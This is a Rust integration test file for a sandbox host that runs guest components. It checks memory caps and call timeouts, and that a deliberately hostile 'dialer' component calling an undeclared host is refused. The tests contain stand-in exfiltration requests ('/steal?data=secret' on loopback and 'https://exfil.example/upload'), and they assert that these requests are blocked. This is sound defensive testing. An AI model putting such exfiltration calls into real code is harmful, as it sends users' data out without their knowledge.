//! The sandbox: a guest that exceeds its memory cap or its time is stopped
//! with an error that says so, and the host goes on (here: runs another
//! instance to completion); a guest that dials a host it did not declare is
//! refused, and nothing reaches that host.

#[path = "support/guest.rs"]
mod guest;
use chrono::{Duration, Utc};
use defender_ocsf_host::runtime::{DEFAULT_COMPONENT, Limits, Runtime};
use defender_ocsf_host::telemetry::Telemetry;
use defender_ocsf_replay::{Credentials, Dataset, ReplayServer};
use serde_json::json;
use std::sync::Arc;

fn credentials() -> Credentials {
    Credentials {
        tenant_id: "b-tenant".into(),
        client_id: "b-client".into(),
        client_secret: "b-secret".into(),
    }
}

fn server(field_bytes: usize) -> ReplayServer {
    let t = (Utc::now() - Duration::minutes(20)).to_rfc3339();
    let mut d = Dataset::default();
    let row = json!({"Timestamp": t, "DeviceId": "d", "ReportId": 1, "ProcessId": 1, "InitiatingProcessId": 1, "ProcessCommandLine": "x".repeat(field_bytes)});
    d.add("DeviceProcessEvents", [row.as_object().unwrap().clone()]).unwrap();
    ReplayServer::start(d, credentials()).unwrap()
}

fn config(server: &ReplayServer) -> String {
    json!({
        "tenant_id": "b-tenant", "client_id": "b-client", "client_secret": "b-secret",
        "login_endpoint": server.url(), "graph_endpoint": server.url(), "tables": ["DeviceProcessEvents"],
        "start_time": (Utc::now() - Duration::hours(1)).to_rfc3339(), "delay": "1m",
    })
    .to_string()
}

#[test]
fn a_guest_over_its_memory_cap_is_stopped_with_a_clear_error_and_the_host_goes_on() {
    let runtime = Runtime::new(DEFAULT_COMPONENT, None).unwrap();
    let big = server(40 << 20);
    let limits = Limits {
        memory_bytes: 32 << 20,
        ..Limits::default()
    };
    let mut instance = runtime.instantiate(&limits, Arc::new(Telemetry::default())).unwrap();
    instance.init(&config(&big), None).unwrap().unwrap();
    let err = instance.poll().expect_err("a 40 MB response does not fit in 32 MiB");
    let text = format!("{err:#}");
    assert!(text.contains("memory limit"), "{text}");

    // The same runtime runs a new instance normally.
    let small = server(10);
    let mut fresh = runtime.instantiate(&Limits::default(), Arc::new(Telemetry::default())).unwrap();
    fresh.init(&config(&small), None).unwrap().unwrap();
    let batch = fresh.poll().unwrap().unwrap();
    assert_eq!(batch.count, 1);
}

#[test]
fn a_call_past_its_deadline_is_stopped() {
    let runtime = Runtime::new(DEFAULT_COMPONENT, None).unwrap();
    let slow = server(10);
    slow.set_delay(std::time::Duration::from_secs(3));
    let limits = Limits {
        call_timeout: std::time::Duration::from_millis(500),
        ..Limits::default()
    };
    let mut instance = runtime.instantiate(&limits, Arc::new(Telemetry::default())).unwrap();
    instance.init(&config(&slow), None).unwrap().unwrap();
    let started = std::time::Instant::now();
    let err = instance.poll().expect_err("the poll outlives its deadline");
    assert!(format!("{err:#}").contains("ran longer than"), "{err:#}");
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
}

/// The hostile test component in `host/tests/dialer`.
fn dialer() -> std::path::PathBuf {
    guest::build("defender-ocsf-test-dialer")
}

/// A loopback listener that answers every request with 204 and counts the
/// connections it accepted.
fn listener() -> (String, Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{Read, Write};
    let socket = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let origin = format!("http://{}", socket.local_addr().unwrap());
    let accepted = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = accepted.clone();
    std::thread::spawn(move || {
        for mut stream in socket.incoming().flatten() {
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut buf = [0u8; 4096];
            let _ = stream.read(&mut buf);
            let _ = stream.write_all(b"HTTP/1.1 204 No Content\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
        }
    });
    (origin, accepted)
}

fn run_dialer(allowed: &str, dial: &str) -> std::process::Output {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("config.yaml");
    std::fs::write(
        &config,
        format!(
            "state_dir: {}\nallowed: {allowed}\ndial: {dial}\n",
            dir.path().join("state").display()
        ),
    )
    .unwrap();
    std::process::Command::new(env!("CARGO_BIN_EXE_defender-ocsf"))
        .args(["run", "--once", "--config"])
        .arg(&config)
        .arg("--component")
        .arg(dialer())
        .output()
        .unwrap()
}

#[test]
fn a_component_that_dials_a_host_it_did_not_declare_is_refused_and_nothing_reaches_it() {
    use std::sync::atomic::Ordering;
    let (target, accepted) = listener();
    let out = run_dialer("http://127.0.0.1:1", &format!("{target}/steal?data=secret"));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    let refusal = stderr
        .lines()
        .find(|l| l.contains("refused an outgoing request"))
        .unwrap_or_else(|| panic!("no log line about the refusal:\n{stderr}"));
    assert!(
        refusal.contains(target.trim_start_matches("http://")),
        "the log line names the host: {refusal}"
    );
    assert!(
        stderr.contains("HttpRequestDenied"),
        "the component was told it was denied:\n{stderr}"
    );
    assert_eq!(accepted.load(Ordering::SeqCst), 0, "nothing may reach an undeclared host");

    // An unlisted public host is refused the same way, before any lookup.
    let out = run_dialer("http://127.0.0.1:1", "https://exfil.example/upload");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr
            .lines()
            .any(|l| l.contains("refused an outgoing request") && l.contains("exfil.example")),
        "{stderr}"
    );

    // The control: declared, the same request goes out. So the refusal above
    // is the policy's doing, not a dialer that never dials.
    let out = run_dialer(&target, &format!("{target}/allowed"));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("went out and was answered 204"), "{stderr}");
    assert_eq!(accepted.load(Ordering::SeqCst), 1);
    // The dialer is built against the previous contract: the host still runs it.
    assert!(stderr.contains(r#""contract":"0.3.0""#), "{stderr}");
}
